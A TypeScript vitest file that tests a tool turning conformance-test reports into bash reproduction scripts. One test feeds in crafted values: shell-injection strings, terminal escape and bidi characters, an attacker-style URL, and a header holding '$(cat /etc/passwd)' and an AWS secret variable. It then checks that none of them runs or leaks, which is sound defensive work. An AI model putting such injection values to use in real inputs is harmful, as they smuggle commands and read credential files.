import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, test } from 'vitest';
import type { DefectId } from '../test/mutations/defects/index.ts';
import { aFailure, aFinding, anExchange, aRun } from '../test/reports/results.ts';
import { resultOf, runAgainst, runScript, written } from '../test/reports/trial.ts';
import { reportOf } from './report.ts';
import { scriptsOf } from './script.ts';

/** One defect for each kind of step: request, comparison, confirmation ID, clock, burst, rate limit, placed key. */
const representative: readonly (readonly [DefectId, string])[] = [
  ['used-id-answers-with-its-run', 'confirmations.used-invalid'],
  ['race-loser-told-to-wait', 'race.others-invalid'],
  ['second-call-decides-count', 'confirmations.changed-count'],
  ['expired-id-proposes', 'expiry.dead-after-45-minutes'],
  ['revoked-401-a-byte-longer', 'unauthenticated.revoked'],
  ['unknown-tool-named-in-404', 'unknown-tools.name-not-in-body'],
  ['title-over-limit-accepted', 'create-request.title-201'],
  ['days-backwards', 'schedule.days'],
  ['beta-header-missing-on-429', 'envelopes.beta-on-429'],
  ['key-compared-without-case', 'unauthenticated.unknown'],
];

const folder = mkdtempSync(join(tmpdir(), 'tck-repro-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const linesOf = (script: string) => script.trimEnd().split('\n');

test.each(representative)('the output of a script shows whether the stub has the defect %s', async (defect) => {
  const [[, script = ''] = []] = Object.entries(scriptsOf(reportOf(await resultOf(defect))));
  expect(linesOf(script).length).toBeLessThanOrEqual(40);
  const file = written(folder, defect, script);
  const [broken, fixed] = [await runAgainst(file, defect), await runAgainst(file, null)];
  expect([broken.code, fixed.code], broken.output).toEqual([0, 0]);
  const told = (output: string) => output.replaceAll(/\d{4,}|\b[\da-f]{8}[\da-f-]+\b/g, '');
  expect(told(broken.output)).not.toBe(told(fixed.output));
  expect(broken.output).toContain('The run got: ');
});

const evil =
  "'; touch /tmp/tck-evil; echo '$(touch /tmp/tck-evil) `touch /tmp/tck-evil` \u001b[2J \u202e \n touch /tmp/tck-evil";

test('no text of a crafted report runs, reaches a terminal raw, or leads to another host', async () => {
  const exchange = anExchange(1, {
    role: null,
    credential: evil,
    step: evil,
    request: {
      method: evil,
      url: `http://attacker.test@evil.test/${evil}`,
      headers: [
        [evil, evil],
        ['authorization', `Bearer $AWS_SECRET $(cat /etc/passwd) ${evil}`],
      ],
      body: evil,
    },
  });
  const finding = aFinding({ exchanges: [1], expected: evil, actual: evil, hint: evil });
  const run = aRun([{ ...aFailure('credits.answers'), findings: [finding] }], { exchanges: [exchange] });
  const [script = ''] = Object.values(scriptsOf(reportOf(run)));
  expect(script).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}]/u);
  expect(script).not.toMatch(/https?:/);
  expect([...script.matchAll(/\$\{?([A-Z]\w+)/g)].map(([, name]) => name)).toEqual(
    expect.arrayContaining(['TCK_BASE_URL', 'TCK_KEY_AWS_SECRET']),
  );
  // A function named curl prints the URL that the script would send to.
  const spied = script.replace(
    /^curl\(\).*$/m,
    'curl() { for each; do [[ $each != http:* ]] || echo "to $each"; done; }',
  );
  const { code, output } = await runScript(written(folder, 'evil', `trap '' EXIT\n${spied}`), {
    TCK_BASE_URL: 'http://mine.test',
    TCK_KEY_AWS_SECRET: 'k-1',
    TCK_KEY_PRIMARY: 'k-2',
  });
  expect(output).toMatch(/^to http:\/\/mine\.test\//m);
  expect(code).toBe(0);
  expect(output).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}]/u);
  await expect(import('node:fs/promises').then(({ access }) => access('/tmp/tck-evil'))).rejects.toThrow();
});

test('an exchange that can be written as text is preferred, and the shortest one', () => {
  const odd = anExchange(1, { request: { ...anExchange(1).request, body: '\ufffd' } });
  const long = anExchange(2, {
    request: { ...anExchange(2).request, body: JSON.stringify({ query: 'x'.repeat(250) }) },
  });
  const short = anExchange(3, { request: { ...anExchange(3).request, body: '{"query":"a"}' } });
  const findings = [1, 2, 3].map((id) => aFinding({ exchanges: [id] }));
  const run = aRun([{ ...aFailure('credits.answers'), findings }], { exchanges: [odd, long, short] });
  expect(Object.values(scriptsOf(reportOf(run)))[0]).toContain(`'{"query":"a"}'`);
});
